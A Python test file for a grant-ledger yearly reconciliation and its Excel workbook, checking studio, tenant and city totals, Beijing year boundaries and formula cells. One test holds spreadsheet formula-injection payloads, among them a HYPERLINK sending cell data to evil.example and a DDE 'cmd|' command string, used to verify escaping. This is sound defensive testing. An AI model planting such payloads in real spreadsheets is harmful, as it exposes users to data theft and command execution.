"""Yearly reconciliation (JSON) and its .xlsx workbook."""

import io
import json
import os
import re
import sys
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

sys.path.insert(0, os.path.dirname(__file__))
from ledger_histories import histories, run_history  # noqa: E402

from services.ledger.domain import (GRANT_FEN, AccountState, LedgerValidationError, apply,  # noqa: E402
                                    clawback_entry, excel_text, expenditure_entry, grant_entry,
                                    matching_entry, reconcile, reconciliation_workbook,
                                    reversal_entry, year_bounds)
from services.ledger.domain.reconciliation import (FIRST_DATA_ROW, HEADER_ROW, MONEY_COLUMNS,  # noqa: E402
                                                   SHEET_CITY, SHEET_STUDIOS, SHEET_TENANTS)

SH = ZoneInfo("Asia/Shanghai")
U = {"user": "u"}
FA = {"asset_tag": "A-1", "name": "示教设备", "quantity": 1, "location": "二楼"}


class Studio:
    def __init__(self, sid, tid, uid):
        self.ids = dict(studio_id=sid, tenant_id=tid, unit_id=uid)
        self.s = AccountState()
        self.entries = []
        self.n = 0

    def _kw(self, t):
        self.n += 1
        return dict(booked_at=t, idempotency_key=f"k{self.n}", caused_by=U)

    def book(self, e):
        self.s = apply(self.s, e)
        self.entries.append(e)
        return e

    def grant(self, t):
        return self.book(grant_entry(self.s, **self._kw(t), **self.ids))

    def matching(self, t, amount):
        return self.book(matching_entry(self.s, amount_fen=amount, **self._kw(t)))

    def spend(self, t, amount, category="training", funding="city", **kw):
        return self.book(expenditure_entry(self.s, amount_fen=amount, category=category, funding=funding,
                                           **self._kw(t), **kw))

    def reverse(self, t, e):
        return self.book(reversal_entry(self.s, e.entry_id, reason="更正", **self._kw(t)))

    def clawback(self, t):
        return self.book(clawback_entry(self.s, **self._kw(t)))


def d(y, m, day, h=10, minute=0):
    return datetime(y, m, day, h, minute, tzinfo=SH)


@pytest.fixture(scope="module")
def ledger():
    s1 = Studio("S1", "T1", "U1")
    s1.grant(d(2023, 6, 1))
    wrong = s1.spend(d(2023, 7, 1), 50_000, "skill_rnd")
    s1.spend(d(2023, 8, 1), 2_000_000, "equipment_facilities", fixed_asset=FA)
    s1.matching(d(2024, 2, 1), 10_000_000)
    s1.reverse(d(2024, 3, 1), wrong)                       # a 2023 entry corrected in 2024
    s1.spend(d(2024, 4, 1), 30_000, "exchange_promotion")
    s1.spend(d(2024, 5, 1), 70_000, "training", funding="matching")
    s1.spend(d(2025, 1, 5), 1_000, "training")            # after the year: ignored for 2024

    s2 = Studio("S2", "T1", "U2")
    s2.grant(d(2024, 12, 31, 23, 30))                      # 15:30 UTC: still 2024 in Beijing
    s2.spend(d(2025, 1, 1, 0, 10), 9_000)                  # 2024-12-31 16:10 UTC: 2025 in Beijing

    s3 = Studio("S3", "T2", "U3")
    s3.grant(d(2023, 9, 1))
    s3.matching(d(2023, 9, 2), 40_000_000)
    s3.spend(d(2023, 10, 1), 12_000_000, "equipment_facilities", fixed_asset=FA)
    s3.clawback(d(2024, 6, 1))
    return [s1, s2, s3]


def all_entries(ledger):
    return [e for s in ledger for e in s.entries]


def test_year_bounds_are_beijing_calendar_years():
    start, end = year_bounds(2024)
    assert start.isoformat() == "2024-01-01T00:00:00+08:00" and end.isoformat() == "2025-01-01T00:00:00+08:00"
    with pytest.raises(LedgerValidationError):
        year_bounds("2024")


def test_studio_rows(ledger):
    rep = reconcile(all_entries(ledger), 2024, studio_names={"S1": "张师傅数控工作室"})
    rows = {r["studio_id"]: r for r in rep["studios"]}
    assert [r["studio_id"] for r in rep["studios"]] == ["S1", "S2", "S3"]

    r1 = rows["S1"]
    assert r1["studio_name"] == "张师傅数控工作室" and r1["tenant_id"] == "T1"
    assert r1["opening"] == {"city_fen": GRANT_FEN - 2_050_000, "matching_fen": 0, "total_fen": GRANT_FEN - 2_050_000}
    assert r1["received"] == {"city_grant_fen": 0, "city_bonus_fen": 0, "matching_fen": 10_000_000,
                              "city_fen": 0, "total_fen": 10_000_000}
    assert r1["spent"]["by_category"] == {"equipment_facilities": 0, "skill_rnd": -50_000,
                                          "exchange_promotion": 30_000, "training": 70_000}
    assert r1["spent"]["by_funding"] == {"city": -20_000, "matching": 70_000} and r1["spent"]["total_fen"] == 50_000
    assert r1["closing"] == {"city_fen": GRANT_FEN - 2_050_000 + 20_000, "matching_fen": 9_930_000,
                             "total_fen": GRANT_FEN - 2_030_000 + 9_930_000}
    assert r1["cumulative"] == {"city_fen": GRANT_FEN, "matching_fen": 10_000_000}
    assert r1["matching_ratio_bp"] == 3333 and r1["matching_ratio"] == "33.33%"
    assert r1["balanced"] and r1["entries"] == 4

    r2 = rows["S2"]   # year boundary in Beijing time
    assert r2["received"]["city_grant_fen"] == GRANT_FEN and r2["spent"]["total_fen"] == 0
    assert r2["closing"]["city_fen"] == GRANT_FEN and r2["matching_ratio_bp"] == 0

    r3 = rows["S3"]
    assert r3["clawed_back"] == {"total_fen": GRANT_FEN, "returned_fen": GRANT_FEN - 12_000_000,
                                 "owed_fen": 12_000_000}
    assert r3["closing"] == {"city_fen": 0, "matching_fen": 40_000_000, "total_fen": 40_000_000}
    assert r3["owed_by_unit_fen"] == 12_000_000 and r3["balanced"]
    assert r3["matching_ratio"] == "133.33%"


def test_tenant_and_city_rollups(ledger):
    rep = reconcile(all_entries(ledger), 2024, tenant_names={"T1": "海淀区人力资源社会保障局"})
    t1, t2 = rep["tenants"]
    assert (t1["tenant_id"], t1["tenant_name"], t1["studios"], t2["studios"]) == ("T1", "海淀区人力资源社会保障局", 2, 1)
    assert t1["received"]["city_grant_fen"] == GRANT_FEN and t1["received"]["matching_fen"] == 10_000_000
    assert t1["cumulative"] == {"city_fen": 2 * GRANT_FEN, "matching_fen": 10_000_000}
    assert t1["matching_ratio_bp"] == 1666              # from the sums, not an average of 3333 and 0
    city = rep["city"]
    assert city["studios"] == 3 and rep["all_balanced"] and city["balanced"]
    for key in ("opening", "closing"):
        assert city[key]["total_fen"] == sum(r[key]["total_fen"] for r in rep["studios"])
    assert city["clawed_back"]["total_fen"] == GRANT_FEN and city["owed_by_unit_fen"] == 12_000_000
    assert city["spent"]["by_category"] == {
        c: sum(r["spent"]["by_category"][c] for r in rep["studios"]) for c in city["spent"]["by_category"]}
    json.dumps(rep, ensure_ascii=False)
    assert "float" not in {type(v).__name__ for v in _leaves(rep)}


def _leaves(x):
    if isinstance(x, dict):
        for v in x.values():
            yield from _leaves(v)
    elif isinstance(x, list):
        for v in x:
            yield from _leaves(v)
    else:
        yield x


def test_years_chain_and_documents_read_like_entries(ledger):
    es = all_entries(ledger)
    r23, r24, r25 = (reconcile(es, y) for y in (2023, 2024, 2025))
    for a, b in ((r23, r24), (r24, r25)):
        closing = {r["studio_id"]: r["closing"] for r in a["studios"]}
        for r in b["studios"]:
            assert r["opening"] == closing.get(r["studio_id"], {"city_fen": 0, "matching_fen": 0, "total_fen": 0})
    assert [r["studio_id"] for r in r23["studios"]] == ["S1", "S3"]
    # BSON documents as pymongo returns them (naive UTC datetimes, _id) and JSON documents
    docs = [dict(e.to_document(), _id=i, booked_at=e.booked_at.replace(tzinfo=None)) for i, e in enumerate(es)]
    assert reconcile(docs, 2024) == r24
    assert reconcile([e.to_json() for e in es], 2024) == r24


# ---------------------------------------------------------------- the workbook

def _load(report):
    data = reconciliation_workbook(report)
    assert data[:2] == b"PK"
    return openpyxl.load_workbook(io.BytesIO(data))


class Sheets:
    """A tiny evaluator for the formulas the workbook uses (SUM, + -, cell and sheet refs)."""

    REF = re.compile(r"(?:'([^']+)'!)?\$?([A-Z]{1,3})\$?(\d+)")

    def __init__(self, wb):
        self.wb = wb

    def value(self, sheet, coord):
        v = self.wb[sheet][coord].value
        if isinstance(v, str) and v.startswith("="):
            return self.eval(sheet, v[1:])
        if v is None or v == "":
            return Decimal(0)
        return Decimal(str(v))

    def eval(self, sheet, expr):
        def sum_range(m):
            a, b = m.group(1), m.group(2)
            cells = self.wb[sheet][f"{a}:{b}"]
            total = sum((self.value(sheet, c.coordinate) for row in cells for c in row), Decimal(0))
            return f"Decimal('{total}')"
        expr = re.sub(r"SUM\(([A-Z]+\d+):([A-Z]+\d+)\)", sum_range, expr)
        expr = self.REF.sub(lambda m: f"Decimal('{self.value(m.group(1) or sheet, m.group(2) + m.group(3))}')", expr)
        assert re.fullmatch(r"[\sDecimal()'0-9.+\-E]+", expr), expr
        return eval(expr, {"Decimal": Decimal})


def col_of(ws, header):
    for c in ws[HEADER_ROW]:
        if c.value == header:
            return c.column_letter
    raise KeyError(header)


def test_workbook_layout_headers_and_values(ledger):
    rep = reconcile(all_entries(ledger), 2024)
    wb = _load(rep)
    assert wb.sheetnames == [SHEET_STUDIOS, SHEET_TENANTS, SHEET_CITY, "说明"]
    ws = wb[SHEET_STUDIOS]
    headers = [c.value for c in ws[HEADER_ROW]]
    assert headers[:6] == ["主管部门编号", "主管部门名称", "所在单位编号", "所在单位名称", "工作室编号", "工作室名称"]
    for h in ("期初余额合计", "本年收到·市级首次资助", "本年收到·市级追加资助", "本年收到·单位配套资金",
              "本年支出·设备设施", "本年支出·技能研发", "本年支出·交流推广", "本年支出·培训",
              "本年追回市级资金", "期末余额合计", "配套比例（累计配套÷累计市级）", "核对差额（应为0）"):
        assert h in headers
    assert "2024年度" in ws["A1"].value and "元" in ws["A1"].value
    # values are yuan, exact to the fen
    r = FIRST_DATA_ROW  # S1
    assert ws[f"E{r}"].value == "S1"
    assert Decimal(str(ws[f"{col_of(ws, '本年收到·单位配套资金')}{r}"].value)) == Decimal("100000.00")
    assert Decimal(str(ws[f"{col_of(ws, '本年支出·技能研发')}{r}"].value)) == Decimal("-500.00")
    assert ws[f"{col_of(ws, '期初余额·市级资金')}{r}"].number_format == "#,##0.00"


def test_workbook_totals_are_formulas_that_add_up(ledger):
    rep = reconcile(all_entries(ledger), 2024)
    wb = _load(rep)
    ev = Sheets(wb)
    ws = wb[SHEET_STUDIOS]
    total_row = FIRST_DATA_ROW + len(rep["studios"])
    assert ws[f"A{total_row}"].value == "合计"
    for key, header, spec in MONEY_COLUMNS:
        col = col_of(ws, header)
        cell = ws[f"{col}{total_row}"]
        if key == "ratio":
            assert cell.value.startswith("=IF(")
            continue
        if key == "check":
            assert cell.value.startswith("=")
        else:
            assert cell.value == f"=SUM({col}{FIRST_DATA_ROW}:{col}{total_row - 1})"
    # evaluate: totals equal the city figures, every check cell is 0
    city = rep["city"]
    expect = {"期初余额合计": city["opening"]["total_fen"], "本年收到合计": city["received"]["total_fen"],
              "本年支出合计": city["spent"]["total_fen"], "本年追回市级资金": city["clawed_back"]["total_fen"],
              "期末余额合计": city["closing"]["total_fen"], "期末单位应补缴余额": city["owed_by_unit_fen"]}
    for sheet, last in ((SHEET_STUDIOS, total_row), (SHEET_TENANTS, FIRST_DATA_ROW + len(rep["tenants"]))):
        w = wb[sheet]
        for header, fen in expect.items():
            assert ev.value(sheet, f"{col_of(w, header)}{last}") == Decimal(fen) / 100, (sheet, header)
        chk = col_of(w, "核对差额（应为0）")
        for row in range(FIRST_DATA_ROW, last + 1):
            assert ev.value(sheet, f"{chk}{row}") == 0
    assert wb[SHEET_TENANTS][f"C{FIRST_DATA_ROW + 2}"].value == f"=SUM(C{FIRST_DATA_ROW}:C{FIRST_DATA_ROW + 1})"
    # the city sheet checks itself against both other sheets: every difference is 0
    wc = wb[SHEET_CITY]
    labels = [wc[f"A{r}"].value for r in range(1, wc.max_row + 1)]
    diff_rows = [i + 1 for i, v in enumerate(labels) if v and v.startswith("差额")]
    assert len(diff_rows) == 2
    for row in diff_rows:
        for key, header, _ in MONEY_COLUMNS:
            if key != "ratio":
                assert ev.value(SHEET_CITY, f"{col_of(wc, header)}{row}") == 0


NASTY = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")", "+1+2", "-3", "@SUM(A1:A2)",
         "\t=1+1", "\r=1", "=cmd|' /C calc'!A0"]


def test_workbook_escapes_text_that_would_be_a_formula(ledger):
    es = all_entries(ledger)
    names = {"S1": NASTY[0], "S2": NASTY[1], "S3": NASTY[2]}
    rep = reconcile(es, 2024, studio_names=names, tenant_names={"T1": NASTY[3], "T2": NASTY[6]},
                    unit_names={"U1": NASTY[4], "U2": NASTY[5], "U3": "正常单位\x07"})
    wb = _load(rep)
    seen = []
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                v = c.value
                if isinstance(v, str) and c.data_type == "f":
                    # the only formulas are ours: SUM, refs, IF, arithmetic
                    assert not any(bad in v for bad in ("HYPERLINK", "cmd|", "@")), v
                if isinstance(v, str) and v.startswith("'"):
                    assert c.data_type == "s"
                    seen.append(v)
    for text in NASTY:
        assert excel_text(text) == "'" + text
        assert ("'" + text).replace("\r", "\n") in seen, text   # XML reads CR back as LF
    assert excel_text("正常单位\x07") == "正常单位" and excel_text("工作室-1") == "工作室-1"
    assert excel_text(None) == "" and excel_text(2024) == "2024"
    assert wb[SHEET_STUDIOS][f"F{FIRST_DATA_ROW}"].value == "'" + NASTY[0]


def test_empty_year_still_gives_a_complete_report_and_workbook():
    rep = reconcile([], 2024)
    assert rep["studios"] == [] and rep["tenants"] == [] and rep["city"]["studios"] == 0
    assert rep["city"]["closing"]["total_fen"] == 0 and rep["city"]["matching_ratio_bp"] is None
    wb = _load(rep)
    assert wb[SHEET_STUDIOS][f"A{FIRST_DATA_ROW}"].value == "合计"


# ---------------------------------------------------------------- properties over random histories

@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(histories, min_size=1, max_size=4))
def test_reconciliation_balances_and_years_chain_for_random_histories(hs):
    entries = []
    for k, h in enumerate(hs):
        for e in run_history(h).entries:       # rename each history's studio
            doc = e.to_document()
            doc.update(studio_id=f"S{k}", tenant_id=f"T{k % 2}")
            entries.append(doc)
    years = sorted({e["booked_at"].astimezone(SH).year for e in entries}) or [2024]
    prev = None
    for y in range(years[0], years[-1] + 2):
        rep = reconcile(entries, y)
        assert rep["all_balanced"] and rep["city"]["balanced"]
        assert all(t["balanced"] for t in rep["tenants"])
        assert rep["city"]["closing"]["city_fen"] >= 0 and rep["city"]["closing"]["matching_fen"] >= 0
        assert sum(t["studios"] for t in rep["tenants"]) == len(rep["studios"])
        if prev is not None:
            closing = {r["studio_id"]: r["closing"] for r in prev["studios"]}
            for r in rep["studios"]:
                assert r["opening"] == closing.get(r["studio_id"], {"city_fen": 0, "matching_fen": 0, "total_fen": 0})
        prev = rep
